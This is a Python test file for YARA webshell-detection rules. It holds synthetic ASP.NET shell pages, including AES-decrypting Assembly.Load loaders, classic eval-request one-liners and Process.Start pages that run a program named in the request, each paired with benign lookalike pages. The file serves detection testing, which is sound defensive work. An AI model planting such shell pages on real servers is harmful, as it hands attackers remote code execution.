"""Rules from the twenty-first unseen collection: shells sampled by the file names attackers give them
(issue 14, helper X21).

The own rules found all 38 shells of the collection on first sight (BENCHMARKS.md, "Unseen shells,
twenty-first collection: sampled by file name"), 14 of them through the behaviour analysis alone. The most
common of those shapes gets a YARA rule of its own, so that a page of that shape is still named when the
behaviour analysis does not finish: the Behinder-style loader that reads the raw request body, decrypts it
with an AES decryptor and hands the result to ``Assembly.Load`` in one statement (three shells of the
collection; the base64 loader rule wants ``FromBase64String``, which this shape never uses). The rule is
``EXT_WEBSHELL_Assembly_Load_Decrypted_Request`` in ``data/rules/reflected_loaders.yar``. A late batch (b11,
scanners' upload payload lists) brought the collection's one first-sight miss: the classic-ASP one-liner
``<% eval request("cmd") %>`` saved as ``shell.aspx`` - VBScript calls ``eval`` as a statement, without the
parenthesis ``EXT_WEBSHELL_ChinaChopper_Eval`` (``data/rules/webshells.yar``) wanted. The pages below reproduce
both shapes and the ordinary pages closest to them. Batches 11-12 also held four pages that start the program a
request value names (``Process.Start(Request["cmd"])``), found by the behaviour analysis only: they get
``EXT_WEBSHELL_Process_Start_Request_Program`` (``data/rules/webshells.yar``). All pages were written for these tests: nothing
is compiled or run, keys and class names are placeholders, and none is a copy of a real shell.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

_RULE = "EXT_WEBSHELL_Assembly_Load_Decrypted_Request"

LOADERS: list[Page] = [
    (
        "cs-raw-body-aes-load",
        ".aspx",
        '<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  byte[] key = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");\n'
        "  byte[] body = Request.BinaryRead(Request.ContentLength);\n"
        "  Assembly.Load(System.Security.Cryptography.Aes.Create().CreateDecryptor(key, key)"
        '.TransformFinalBlock(body, 0, body.Length)).CreateInstance("Probe");\n}\n</script>',
    ),
    (
        "vb-input-stream-rijndael-load",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '  Dim k As Byte() = System.Text.Encoding.ASCII.GetBytes("placeholderkey16")\n'
        "  Dim ms As New System.IO.MemoryStream()\n  Request.InputStream.CopyTo(ms)\n"
        "  Dim c As Byte() = ms.ToArray()\n"
        "  System.Reflection.Assembly.Load(New System.Security.Cryptography.RijndaelManaged()"
        '.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Probe")\n'
        "End Sub\n</script>",
    ),
    (
        "cs-session-key-comment-between",
        ".aspx",
        '<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","placeholder0000");'
        ' /* key note */byte[] k = Encoding.Default.GetBytes(Session[0] + ""),'
        "c = Request.BinaryRead(Request.ContentLength);"
        "Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
        '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("Probe").Equals(this);%>',
    ),
    (
        "cs-form-bytes-in-the-statement",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n    var k = new byte[16];\n"
        "    System.Reflection.Assembly.Load(System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k)"
        '.TransformFinalBlock(System.Text.Encoding.Default.GetBytes(ctx.Request.Form["d"]), 0, 16));\n  }\n}',
    ),
]

LOADERS_ORDINARY: list[Page] = [
    (
        "cookie-aes-decrypt-shown",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  byte[] k = new byte[16]; byte[] c = Convert.FromBase64String(Request.Cookies["pref"].Value);\n'
        "  var aes = System.Security.Cryptography.Aes.Create();\n"
        "  Pref.Text = System.Text.Encoding.UTF8.GetString(aes.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length));\n"
        '}\n</script>\n<asp:Label id="Pref" runat="server" />',
    ),
    (
        "plugin-loaded-from-bin-setting-decrypted",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string name = Request.QueryString["plugin"] ?? "report";\n'
        '  byte[] k = new byte[16]; byte[] cs = Convert.FromBase64String(ConfigurationManager.AppSettings["cs"]);\n'
        "  string conn = System.Text.Encoding.UTF8.GetString("
        "System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(cs, 0, cs.Length));\n"
        '  var asm = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/plugins/" + name + ".dll")));\n'
        '  Out.Text = asm.FullName + " " + conn.Length;\n}\n</script>\n<asp:Label id="Out" runat="server" />',
    ),
    (
        "embedded-assembly-decrypted-from-resource",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  int page = int.Parse(Request.QueryString["page"] ?? "1");\n'
        '  var st = GetType().Assembly.GetManifestResourceStream("Reports.bin");\n'
        "  var res = new byte[st.Length]; st.Read(res, 0, res.Length);\n"
        "  byte[] k = new byte[16], iv = new byte[16];\n"
        "  var asm = System.Reflection.Assembly.Load(System.Security.Cryptography.Aes.Create()"
        ".CreateDecryptor(k, iv).TransformFinalBlock(res, 0, res.Length));\n"
        '  Out.Text = asm.GetName().Name + " page " + page;\n}\n</script>\n<asp:Label id="Out" runat="server" />',
    ),
    (
        "encrypted-upload-decrypted-and-saved",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Up" %>\nusing System.Web;\n'
        "public class Up : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n    var ms = new System.IO.MemoryStream();\n"
        "    ctx.Request.InputStream.CopyTo(ms); byte[] c = ms.ToArray(); byte[] k = new byte[16];\n"
        "    byte[] plain = System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);\n"
        '    System.IO.File.WriteAllBytes(ctx.Server.MapPath("~/App_Data/in.bin"), plain);\n  }\n}',
    ),
]

STATEMENT_EVAL: list[Page] = [
    ("classic-eval-statement-in-aspx", ".aspx", '<% eval request("p") %>'),
    ("classic-eval-form-item", ".aspx", '<%Eval Request.Form("p")%>\n<html><body>ok</body></html>'),
    (
        "vb-server-block-eval-statement",
        ".aspx",
        '<script runat="server" language="VBScript">\nSub Run()\n  eval  Request.Item("p")\nEnd Sub\n</script>',
    ),
]

STATEMENT_EVAL_ORDINARY: list[Page] = [
    (
        "data-binding-eval-and-query",
        ".aspx",
        '<%@ Page Language="C#" %>\n<asp:Repeater id="R" runat="server"><ItemTemplate>'
        '<%# Eval("Title") %></ItemTemplate></asp:Repeater>\n'
        '<p>Page <%= Server.HtmlEncode(Request.QueryString["page"]) %></p>',
    ),
    (
        "classic-fixed-eval-and-encoded-name",
        ".aspx",
        '<% Dim total : total = Eval("2+3") %>\n<p><%= total %> for <%= Server.HTMLEncode(Request("name")) %></p>',
    ),
    (
        "evaluation-request-form-text",
        ".aspx",
        '<%@ Page Language="VB" %>\n<h1>Course evaluation request</h1>\n'
        '<p>Sent by <%= Server.HtmlEncode(Request.Form("who")) %></p>',
    ),
]

REQUEST_PROGRAM: list[Page] = [
    (
        "cs-start-query-program",
        ".aspx",
        '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request.QueryString["p"]); %>',
    ),
    (
        "vb-start-request-program",
        ".aspx",
        '<%@ Page Language="VB" %><% System.Diagnostics.Process.Start(Request("p")) %>',
    ),
    (
        "cs-start-info-from-form",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  var i = new System.Diagnostics.ProcessStartInfo(Request.Form["exe"], Request.Form["args"]);\n'
        "  i.UseShellExecute = false;\n  System.Diagnostics.Process.Start(i);\n}\n</script>",
    ),
    (
        "ashx-context-request-program",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="P" %>\nusing System.Web;\n'
        "public class P : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        '  public void ProcessRequest(HttpContext ctx) { System.Diagnostics.Process.Start(ctx.Request["p"]); }\n}',
    ),
]

REQUEST_PROGRAM_ORDINARY: list[Page] = [
    (
        "report-tool-fixed-program-month-argument",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  int month = int.Parse(Request["m"] ?? "1");\n'
        '  System.Diagnostics.Process.Start(Server.MapPath("~/tools/report.exe"), "--month " + month);\n}\n</script>',
    ),
    (
        "download-named-by-request",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="D" %>\nusing System.Web;\n'
        "public class D : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n"
        '    var cd = new System.Net.Mime.ContentDisposition(); cd.FileName = ctx.Request["name"];\n'
        '    ctx.Response.AppendHeader("Content-Disposition", cd.ToString());\n'
        '    ctx.Response.TransmitFile(ctx.Server.MapPath("~/App_Data/export.csv"));\n  }\n}',
    ),
    (
        "process-list-by-requested-name",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% foreach (var p in System.Diagnostics.Process.GetProcessesByName(Request["n"] ?? "w3wp"))'
        ' { Response.Write(Server.HtmlEncode(p.ProcessName) + " " + p.Id + "<br>"); } %>',
    ),
]

CASES: list[RuleCase] = [
    (_RULE, LOADERS, LOADERS_ORDINARY),
    ("EXT_WEBSHELL_ChinaChopper_Eval", STATEMENT_EVAL, STATEMENT_EVAL_ORDINARY),
    ("EXT_WEBSHELL_Process_Start_Request_Program", REQUEST_PROGRAM, REQUEST_PROGRAM_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)
